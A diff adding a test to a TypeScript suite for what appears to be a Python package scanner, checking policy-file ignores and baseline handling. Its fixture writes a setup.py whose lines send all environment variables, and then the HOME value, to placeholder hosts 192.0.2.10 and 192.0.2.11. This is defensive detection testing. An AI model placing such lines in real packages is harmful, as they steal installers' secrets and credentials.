@@ -11,7 +11,7 @@ import { EMPTY_POLICY, findPolicyFile, readPolicy } from '../../src/policy/load.
 import { renderJson } from '../../src/report/json.ts';
 import { renderSarif } from '../../src/report/sarif.ts';
 import { UserError } from '../../src/util/errors.ts';
-import { scanJson } from '../analysis/run-cli.ts';
+import { runCli, scanJson } from '../analysis/run-cli.ts';
 import { sampleResult } from '../report/fixtures/sample-result.ts';
 import { validateResult, validateSarif } from '../report/validate.ts';
 
@@ -110,4 +110,26 @@ test('suppressions come from the user only: # nosec, # noqa and a pyguard.toml i
   assert.equal(inside.result.policy, undefined, 'the package\'s own policy file was not used');
   const findings = inside.result.targets[0].files.flatMap((f) => f.findings);
   assert.ok(findings.some((f) => f.rule === 'exfiltration') && findings.every((f) => !f.policy));
+});
+
+test('scan judges with the policy of the folder it runs in, and with a baseline written by baseline write', async () => {
+  const exfil = 'import json, os, urllib.request\nurllib.request.urlopen("http://192.0.2.10/c", data=json.dumps(dict(os.environ)).encode())\n';
+  const dir = folder({
+    'pyguard.toml': '[[ignore]]\nrule = "exfiltration"\npackage = "pkg"\nreason = "lab sample"\n\n[[ignore]]\nrule = "egress-network-call"\npackage = "pkg"\nreason = "lab sample"\n',
+    'pkg/setup.py': exfil,
+  });
+  const ignored = await scanJson('pkg', dir);
+  assert.equal(ignored.code, 0);
+  assert.equal(ignored.result.policy!.ignored, 2);
+  assert.equal(ignored.result.targets[0].analysedRisk, 'critical');
+  assert.deepEqual(validateResult(ignored.result), []);
+
+  const write = await runCli(['baseline', 'write', 'known.json', 'scan', 'pkg'], dir);
+  assert.equal(write.code, 0, write.stderr);
+  assert.equal((await scanJson('pkg', dir, ['--no-policy', '--baseline', 'known.json'])).code, 0);
+  writeFileSync(join(dir, 'pkg/setup.py'), exfil + 'urllib.request.urlopen("http://192.0.2.11/d", data=os.environ["HOME"].encode())\n');
+  const changed = await scanJson('pkg', dir, ['--no-policy', '--baseline', 'known.json']);
+  assert.equal(changed.code, 1);
+  const counted = changed.result.targets[0].files.flatMap((f) => f.findings).filter((f) => !f.policy);
+  assert.ok(counted.length > 0 && counted.every((f) => f.code.includes('192.0.2.11')));
 });
